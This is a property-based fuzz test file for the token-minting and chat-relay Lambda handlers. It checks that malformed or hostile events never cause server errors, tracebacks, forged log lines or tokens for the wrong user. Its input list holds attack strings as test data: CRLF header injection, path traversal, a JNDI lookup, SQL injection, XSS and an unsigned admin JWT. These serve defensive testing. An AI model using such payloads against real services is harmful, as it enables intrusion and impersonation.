"""Property-based fuzzing of whole API Gateway events and bodies for both handlers (Hypothesis, derandomized).

Whatever arrives — wrong types anywhere in the event, huge or deeply nested JSON, invalid UTF-8,
base64 bodies good and bad, CRLF and other injection in headers and session ids, duplicate keys — the
answer is never a 5xx (nothing upstream is faulted here), never an uncaught exception, never a traceback,
every log line stays one JSON line, and a token is only ever for the verified user.
"""

from __future__ import annotations

import base64
import copy
import json
import logging
from collections import Counter
from typing import Any, Callable, Iterator, Optional

import jwt
import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from behest_lambda.app import Handler, Service, entry_point
from behest_lambda.mint import SESSION_ID_PATTERN
from behest_lambda.routes import RELAY_FUNCTION, TOKEN_FUNCTION
from devstack.standin import StandinGateway
from tests.figures import Figures
from tests.reliability.suite import sized
from tests.support import AUDIENCE, ISSUER, KID, CapturedTelemetry, FakeContext, load_event, public_key, sign_env

TOPIC = "Fuzzing (Hypothesis, derandomized, whole events and bodies)"
MAX_BODY = 65536  # BEHEST_MAX_BODY_BYTES while fuzzing, so "huge" (up to 3× the cap) stays cheap to generate
NESTING = [10, 500, 900, 950, 970, 980, 990, 1000, 1100, 5000, 50000]

# --- strategies -------------------------------------------------------------------------------------------------

surrogates = st.sampled_from(["\ud800", "\udfff", "\udc80abc"])
any_text = st.one_of(st.text(max_size=40), st.text(st.characters(exclude_categories=()), max_size=20),
                     surrogates, st.sampled_from(["", " ", "\x00", "\u2028", "\ufeff"]))
injection = st.sampled_from([
    "a\r\nx-injected: 1", "\r\n\r\nHTTP/1.1 200 OK\r\n", "sess\nion", "sess\rion", "x\x00y", "../../etc/passwd",
    "${jndi:ldap://evil/a}", "' OR 1=1 --", "<script>alert(1)</script>", "a" * 129, "-leading-dash", "ok-session.1:2_3",
    "%0d%0aX-Injected:%201", "sid\u0085next", "eyJhbGciOiJub25lIn0.eyJ1aWQiOiJhZG1pbiJ9.",
])
scalars = st.one_of(st.none(), st.booleans(), st.integers(), st.integers(min_value=-(2**70), max_value=2**70),
                    st.floats(), any_text)
json_values = st.recursive(scalars, lambda inner: st.one_of(st.lists(inner, max_size=4),
                                                            st.dictionaries(any_text, inner, max_size=4)), max_leaves=12)
spoofs = st.dictionaries(st.sampled_from(["uid", "user", "user_id", "userId", "sub", "tier", "tid", "pid", "role", "scp",
                                          "iss", "aud", "kid", "alg", "exp", "jti", "sid"]), json_values, max_size=4)


def weighted(*choices: tuple[int, st.SearchStrategy[Any]]) -> st.SearchStrategy[Any]:
    """One of the strategies, drawn with the given weights (percent-like)."""
    table = [strategy for weight, strategy in choices for _ in range(weight)]
    return st.integers(0, len(table) - 1).flatmap(lambda index: table[index])


def dumps(value: Any, ascii_only: bool) -> str:
    return json.dumps(value, ensure_ascii=ascii_only)


def nested(depth: int, leaf: str = "1") -> str:
    return '{"a":' * depth + leaf + "}" * depth


def duplicate_keys(key: str, first: Any, second: Any) -> str:
    return "{" + f"{json.dumps(key)}: {json.dumps(first)}, {json.dumps(key)}: {json.dumps(second)}" + "}"


def raw_bodies(valid: st.SearchStrategy[dict[str, Any]], keys: list[str]) -> st.SearchStrategy[Optional[str]]:
    """Body text: good and bad JSON of every kind."""
    ascii_only = weighted((80, st.just(True)), (20, st.just(False)))  # False lets lone surrogates through raw
    return weighted(
        (40, st.builds(dumps, valid, ascii_only)),
        (8, st.builds(dumps, st.builds(lambda v, s: {**v, **s}, valid, spoofs), ascii_only)),
        (7, st.builds(dumps, json_values, ascii_only)),
        (5, any_text),
        (3, st.none()),
        (7, st.sampled_from(["", "   ", "null", "[]", '"text"', "1", "true", "{", "}", "{}", "NaN", '{"ttl": NaN}',
                             '{"ttl": Infinity}', '{"ttl": 1e400}', "\ufeff{}", "{'single': 'quotes'}", '{"a": 1,}'])),
        (3, st.builds(lambda n: '{"ttl": ' + "9" * n + "}", st.sampled_from([20, 4300, 4301, 10000]))),
        (5, st.builds(lambda depth, arr: ("[" * depth + "]" * depth) if arr else nested(depth),
                      st.sampled_from(NESTING), st.booleans())),
        (7, st.builds(lambda depth, body: body[:-1] + ', "metadata": ' + nested(depth) + "}",
                      st.sampled_from(NESTING), st.builds(dumps, valid, st.just(True)))),
        (7, st.builds(duplicate_keys, st.sampled_from(keys), json_values, json_values)),
        (8, st.builds(lambda n, body: body[:-1] + ', "pad": "' + "x" * n + '"}',
                      st.sampled_from([MAX_BODY - 200, MAX_BODY, MAX_BODY + 1, 3 * MAX_BODY]),
                      st.builds(dumps, valid, st.just(True)))),
    )


def encoded(bodies: st.SearchStrategy[Optional[str]]) -> st.SearchStrategy[tuple[Any, Any]]:
    """(body, isBase64Encoded) as API Gateway could send them, and as it never would."""
    def b64(text: Optional[str]) -> str:
        return base64.b64encode((text or "").encode("utf-8", "surrogatepass")).decode()

    return weighted(
        (70, st.tuples(bodies, st.just(False))),
        (12, st.tuples(bodies.map(b64), st.just(True))),
        (6, st.tuples(st.binary(max_size=64).map(lambda b: base64.b64encode(b).decode()), st.just(True))),  # not UTF-8
        (6, st.tuples(st.sampled_from(["not base64!", "QUJD=", "=====", "é"]), st.just(True))),
        (6, st.tuples(bodies, json_values)),  # isBase64Encoded of the wrong type
    )


roles = st.sampled_from(["user", "system", "assistant", "tool"])
message = st.fixed_dictionaries({"role": weighted((90, roles), (3, st.just("")), (7, json_values))},
                                optional={"content": st.one_of(any_text, injection, json_values), "name": any_text})
chat_body = st.fixed_dictionaries(
    {"messages": weighted((85, st.lists(message, min_size=1, max_size=3)), (5, st.just([])), (10, json_values))},
    optional={"model": weighted((85, st.sampled_from(["m", "gpt-4o"])), (5, st.just("other-model")), (10, json_values)),
              "stream": weighted((90, st.booleans()), (10, json_values)), "user": st.one_of(any_text, injection),
              "max_tokens": weighted((85, st.integers(1, 10**9)), (5, st.integers()), (10, json_values)),
              "max_completion_tokens": weighted((90, st.integers(1, 10**9)), (10, json_values)),
              "metadata": json_values, "n": json_values},
)
token_body = st.fixed_dictionaries({}, optional={"ttl": st.one_of(st.integers(), json_values),
                                                 "sessionId": st.one_of(any_text, injection, json_values)})


def paths(node: Any, prefix: tuple[Any, ...] = ()) -> list[tuple[Any, ...]]:
    found = [prefix] if prefix else []
    if isinstance(node, dict):
        for key, value in node.items():
            found += paths(value, prefix + (key,))
    return found


def mutated(base: dict[str, Any], body: tuple[Any, Any], headers: dict[str, Any],
            edits: list[tuple[tuple[Any, ...], str, Any]]) -> dict[str, Any]:
    event = copy.deepcopy(base)
    event["body"], event["isBase64Encoded"] = body
    event["headers"].update(headers)
    for path, action, value in edits:
        node: Any = event
        for step in path[:-1]:
            node = node.get(step) if isinstance(node, dict) else None
        if isinstance(node, dict):
            if action == "delete":
                node.pop(path[-1], None)
            else:
                node[path[-1]] = value
    return event


def events(base_name: str, bodies: st.SearchStrategy[dict[str, Any]], keys: list[str]) -> st.SearchStrategy[dict[str, Any]]:
    base = load_event(base_name)
    header_values = st.one_of(injection, any_text, json_values)
    headers = st.dictionaries(st.sampled_from(["x-session-id", "x-user-id", "x-tier", "x-amzn-oidc-identity",
                                               "authorization", "content-type", "x-forwarded-for"]),
                              header_values, max_size=3)
    edit = st.tuples(st.sampled_from(paths(base)), st.sampled_from(["delete", "replace"]), json_values)
    edits = weighted((75, st.just([])), (25, st.lists(edit, min_size=1, max_size=3)))
    return st.builds(mutated, st.just(base), encoded(raw_bodies(bodies, keys)), headers, edits)


# --- invariants -------------------------------------------------------------------------------------------------

def found_at(event: Any, *steps: str) -> Any:
    """What the event holds under `steps`, or None where a step is missing or not an object."""
    node = event
    for step in steps:
        node = node.get(step) if isinstance(node, dict) else None
    return node


def verified_user(event: Any) -> Optional[str]:
    """The user the verified claims name, or None when they name no usable one (a whole number counts, as text)."""
    sub = found_at(event, "requestContext", "authorizer", "jwt", "claims", "sub")
    if isinstance(sub, int) and not isinstance(sub, bool):
        sub = str(sub)
    return sub if isinstance(sub, str) and sub.strip() and len(sub) <= 256 else None


def requested_path(event: Any) -> Any:
    """The path the event asks for: rawPath, or the request context's when rawPath is not text."""
    path = found_at(event, "rawPath")
    return path if isinstance(path, str) else found_at(event, "requestContext", "http", "path")


def check_answer(response: Any, telemetry: CapturedTelemetry, logged_before: int,
                 upstream_failed: bool = False) -> tuple[int, Any]:
    """What every answer must be, whatever came in; returns (status, parsed body or None for a stream)."""
    assert isinstance(response, dict) and isinstance(response["statusCode"], int)
    status = response["statusCode"]
    assert status < 500 or (status == 502 and upstream_failed), response["body"][:300]
    for name, value in response["headers"].items():
        assert isinstance(value, str) and not any(c in name + value for c in "\r\n\x00"), (name, value)
    body = response["body"]
    text = base64.b64decode(body).decode("utf-8", "replace") if response.get("isBase64Encoded") else body
    assert "Traceback" not in text and 'File "' not in text
    for line in telemetry.text()[logged_before:].splitlines():
        json.loads(line)  # one record per line: nothing in a request can split or forge a log line
    if response["headers"].get("content-type") == "text/event-stream":
        return status, None
    document = json.loads(text)
    if status >= 400:
        error = document["error"]
        assert all(isinstance(error[field], str) for field in ("message", "type", "code"))
    return status, document


def lambda_handler(function: str, telemetry: CapturedTelemetry, env: dict[str, str]) -> Handler:
    """The Lambda entry point of `function` as deployed, on the test's telemetry and environment."""
    return entry_point(function, "fuzz", telemetry=telemetry,
                       build=lambda name, built_for: Service.from_env(name, built_for, env))


def run_fuzz(size: int, strategy: st.SearchStrategy[dict[str, Any]], check: Callable[[dict[str, Any]], int]) -> Counter[int]:
    statuses: Counter[int] = Counter()

    @settings(max_examples=size, derandomize=True, database=None, deadline=None,
              suppress_health_check=list(HealthCheck))
    @given(strategy)
    def fuzz(event: dict[str, Any]) -> None:
        statuses[check(event)] += 1

    fuzz()
    return statuses


def histogram(statuses: Counter[int]) -> str:
    return ", ".join(f"{status}×{count}" for status, count in sorted(statuses.items()))


# --- the token handler ------------------------------------------------------------------------------------------

@sized(short=300, long=10_000)
def test_no_event_or_body_makes_the_token_handler_fail_or_mint_for_anyone_else(size: int, figures: Figures) -> None:
    telemetry = CapturedTelemetry()
    env = sign_env(BEHEST_MAX_BODY_BYTES=str(MAX_BODY), BEHEST_TIER_CLAIM="plan", BEHEST_TIER_MAP="free=1,pro=2")
    handler = lambda_handler(TOKEN_FUNCTION, telemetry, env)
    key = public_key("tenant")
    tokens = 0

    def check(event: dict[str, Any]) -> int:
        nonlocal tokens
        logged = len(telemetry.text())
        response = handler(event, FakeContext())
        status, document = check_answer(response, telemetry, logged)
        user = verified_user(event)
        if status == 200:
            assert user is not None and set(document) == {"token", "ttl", "sessionId", "expiresAt"}
            assert jwt.get_unverified_header(document["token"]) == {"alg": "RS256", "kid": KID, "typ": "JWT"}
            claims = jwt.decode(document["token"], key, algorithms=["RS256"], audience=AUDIENCE, issuer=ISSUER)
            assert claims["uid"] == user
            assert SESSION_ID_PATTERN.fullmatch(claims["sid"]) and claims["sid"] == document["sessionId"]
            assert 60 <= claims["exp"] - claims["iat"] <= 3600
            assert claims.get("tier") is None or (type(claims["tier"]) is int and 0 <= claims["tier"] <= 100)
            tokens += 1
        else:
            assert status in (400, 401, 403, 404, 405, 413)
            if status == 403:  # a verified tier claim outside BEHEST_TIER_MIN..BEHEST_TIER_MAX (0..100)
                assert document["error"]["code"] == "tier_out_of_range"
            if status == 404:  # the route table answers for the path asked, and the fuzz may have changed it
                assert requested_path(event) != "/api/behest/token"
            if status == 405:
                assert response["headers"]["allow"] == "POST"
        return status

    statuses = run_fuzz(size, events("token_mint", token_body, ["ttl", "sessionId"]), check)

    assert sum(statuses.values()) >= size
    assert statuses[200] > 0 and statuses[400] > 0  # the run reached both sides of validation
    figures(TOPIC, f"token handler: {sum(statuses.values())} cases → {histogram(statuses)}; 0 5xx, 0 exceptions, "
                   f"0 tracebacks; {tokens} tokens, each for the verified user only")


# --- the relay handler ------------------------------------------------------------------------------------------

class StandinCrashes(logging.Handler):
    """Counts requests the stand-in itself failed on (it logs them with a traceback at DEBUG)."""

    def __init__(self) -> None:
        super().__init__(logging.DEBUG)
        self.count = 0

    def emit(self, record: logging.LogRecord) -> None:
        if record.exc_info:
            self.count += 1


@pytest.fixture
def relay_standin(standin: StandinGateway) -> Iterator[tuple[StandinGateway, StandinCrashes]]:
    # The stand-in is Python too: JSON nested near the recursion limit that the relay accepted can crash its
    # handler thread. That is an upstream fault, answered 502 — allowed, and counted, only when it happened.
    logger = logging.getLogger("devstack.standin")
    crashes = StandinCrashes()
    level, propagate = logger.level, logger.propagate
    logger.setLevel(logging.DEBUG)
    logger.propagate = False
    logger.addHandler(crashes)
    standin.clear_faults()
    yield standin, crashes
    logger.removeHandler(crashes)
    logger.setLevel(level)
    logger.propagate = propagate


@sized(short=300, long=10_000)
def test_no_event_or_body_makes_the_relay_fail_or_speak_for_anyone_else(
    size: int, relay_standin: tuple[StandinGateway, StandinCrashes], figures: Figures,
) -> None:
    standin, crashes = relay_standin
    telemetry = CapturedTelemetry()
    env = sign_env(BEHEST_BASE_URL=standin.url, BEHEST_MAX_BODY_BYTES=str(MAX_BODY), BEHEST_UPSTREAM_TIMEOUT="10",
                   BEHEST_ALLOWED_MODELS="m,gpt-4o", BEHEST_MAX_TOKENS="1000")
    handler = lambda_handler(RELAY_FUNCTION, telemetry, env)
    forwarded = 0

    def check(event: dict[str, Any]) -> int:
        nonlocal forwarded
        standin.clear_records()
        logged, crashed = len(telemetry.text()), crashes.count
        response = handler(event, FakeContext())
        status, document = check_answer(response, telemetry, logged, upstream_failed=crashes.count > crashed)
        user = verified_user(event)
        upstream = [r for r in standin.requests if r.path == "/v1/chat/completions"]
        assert len(upstream) <= 1
        for recorded in upstream:
            assert user is not None and recorded.claims is not None
            assert recorded.claims["uid"] == user and recorded.body["user"] == user
            session = recorded.header("x-session-id") or ""
            assert SESSION_ID_PATTERN.fullmatch(session) and recorded.claims["sid"] == session
            forwarded += 1
        if status == 404:
            assert requested_path(event) != "/v1/chat/completions" and not upstream
        if status == 405:
            assert response["headers"]["allow"] == "POST"
        if status == 200:
            assert upstream and SESSION_ID_PATTERN.fullmatch(response["headers"]["x-session-id"])
            if document is None:
                assert response["body"].endswith("data: [DONE]\n\n")
            else:
                assert document["choices"][0]["message"]["content"].startswith(f"Hello {user}!")
        return status

    statuses = run_fuzz(size, events("chat_completion", chat_body, ["messages", "model", "stream", "user"]), check)

    assert sum(statuses.values()) >= size
    assert statuses[200] > 0 and statuses[400] > 0
    upstream_502 = f" (the 502s: the stand-in itself failed on {crashes.count} accepted bodies)" if crashes.count else ""
    figures(TOPIC, f"relay handler: {sum(statuses.values())} cases → {histogram(statuses)}{upstream_502}; "
                   f"{'no other' if crashes.count else '0'} 5xx, "
                   f"0 exceptions, 0 tracebacks; {forwarded} forwarded, each with a token and `user` for the verified "
                   "user only")
